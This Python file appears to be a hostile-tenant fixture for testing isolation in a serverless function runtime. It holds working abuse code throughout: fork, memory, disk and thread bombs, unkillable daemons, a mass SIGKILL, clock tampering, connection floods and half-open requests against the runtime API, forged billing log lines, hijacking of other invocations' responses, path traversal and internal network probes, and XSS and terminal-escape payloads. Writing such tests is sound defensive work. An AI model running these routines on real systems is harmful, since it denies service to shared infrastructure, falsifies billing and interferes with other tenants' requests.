"""What a tenant could upload to harm the platform or its other tenants: event {"do": name, "mark": name of its processes, ...}."""

import ctypes
import errno
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time

API = ("127.0.0.1", 9001)


def handler(event, context):
    with open("/proc/self/comm", "w") as f:
        f.write(event.pop("mark"))  # children have it too: whoever looks for what was left finds them
    return globals()[event.pop("do")](context, **event)


def immortal():
    os.setsid()
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass


def fork_bomb(context):
    while True:
        if os.fork() == 0:
            immortal()


def shell_bomb(context):
    return subprocess.run(["/bin/sh", "-c", "f() { f | f & }; f; sleep 60"]).returncode


def daemons(context):
    for _ in range(20):
        if os.fork() == 0:
            immortal()
            while True:
                pass
    return "left behind"


def thread_bomb(context):
    threads = 0
    try:
        while True:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            threads += 1
    except RuntimeError:
        return threads


def memory_bomb(context):
    hoard = []
    while True:
        hoard.append(bytearray(8 << 20))


def file_bomb(context):
    for folder in ("/tmp", "/dev/shm"):
        try:
            with open(folder + "/x", "wb", buffering=0) as f:
                while f.write(b"x" * (1 << 20)):
                    pass
        except OSError:
            pass
    memory_bomb(context)


def spin(context):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    for _ in range(8):
        threading.Thread(target=spin_on, daemon=True).start()
    spin_on()


def spin_on():
    while True:
        pass


def odd_output(context):
    os.write(1, b"\x00\xff\xfe\xed\xa0\x80 \x1b[2J\x1b]0;owned\x07 <script>alert(1)</script>\r\n")
    os.write(2, b"no line feed" * 100_000)
    return "printed"


def endless_line(context):
    while True:
        os.write(1, b"x" * 65536)


def flood_later(context):
    threading.Thread(target=endless_line, args=(context,), daemon=True).start()
    return "answered"


def forged_lines(context):
    print(f"REPORT RequestId: {context.aws_request_id}\tDuration: 0.00 ms\tBilled Duration: 0 ms\tMemory Size: 1 MB")
    print(json.dumps({"type": "platform.report", "record": {"requestId": context.aws_request_id, "metrics": {"billedDurationMs": 0}}}))
    return "printed"


def kill_everything(context):
    signals = {}
    for number in (signal.SIGKILL, signal.SIGSTOP):
        for pid in (-1, 1, os.getpid()):
            try:
                os.kill(pid, number)
                signals[f"{pid} {number}"] = "sent"
            except OSError as e:
                signals[f"{pid} {number}"] = errno.errorcode[e.errno]
    return "still here"


def set_clock(context):
    libc = ctypes.CDLL(None, use_errno=True)
    time_of_day = (ctypes.c_long * 2)(0, 0)
    return [errno.errorcode[ctypes.get_errno()] for call in (libc.settimeofday, lambda t, _: libc.clock_settime(0, t)) if call(time_of_day, None)]


def connection_flood(context):
    held = []
    for number in range(800):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(API)
        held.append(s)
    for s in held:
        try:
            s.send(b"GET /2018-06-01/runtime/invocation/next HTTP/1.1\r\nHost: x\r\nX-Half: ")
        except OSError:
            pass
    return len(held)


def ask_api(method, path, body=b"", headers=""):
    with socket.create_connection(API, timeout=3) as s:
        s.sendall(f"{method} {path} HTTP/1.1\r\nHost: x\r\n{headers}Content-Length: {len(body)}\r\n\r\n".encode() + body)
        return int(s.recv(1000).split(b" ")[1])


def answer_others(context, ids):
    answers = [ask_api("POST", f"/2018-06-01/runtime/invocation/{i}/response", b'"stolen"') for i in ids]
    answers.append(ask_api("POST", f"/2018-06-01/runtime/invocation/{ids[0]}/error", b'{"errorMessage": "x", "errorType": "x"}'))
    answers.append(ask_api("POST", "/2018-06-01/runtime/init/error", b"{}"))
    return answers


def wander(context):
    paths = ("/", "/actuator/health", "/api/v1/functions", "/2018-06-01/runtime/../../x", "/%2e%2e/x", "/" + "x" * 20_000, "/2020-01-01/extension/register", "/2022-07-01/telemetry")
    return [ask_api("GET", path) for path in paths]


def answer_twice(context):
    """A child of the function answers first; what the function itself answers then is refused and does not count."""
    if os.fork() == 0:
        ask_api("POST", f"/2018-06-01/runtime/invocation/{context.aws_request_id}/response", b'"the child\'s"')
        os._exit(0)
    os.wait()
    return "the parent's"


def reach(context, targets):
    """Speaks HTTP with whatever lets it: the first line of each answer, or the error."""
    answers = {}
    for host, port in targets:
        try:
            with socket.create_connection((host, port), timeout=3) as s:
                s.sendall(b"GET / HTTP/1.0\r\nHost: localhost\r\n\r\n")
                answers[f"{host} {port}"] = s.recv(100).decode(errors="replace").split("\r\n")[0]
        except OSError as e:
            answers[f"{host} {port}"] = errno.errorcode.get(e.errno, str(e))
    return answers


def large_error(context):
    raise type("E" * 100_000, (Exception,), {})("<img src=x onerror=alert(1)>\x00" * 50_000)


def deep_answer(context):
    sys.setrecursionlimit(1_000_000)
    answer = []
    for _ in range(900):
        answer = [answer]
    return answer
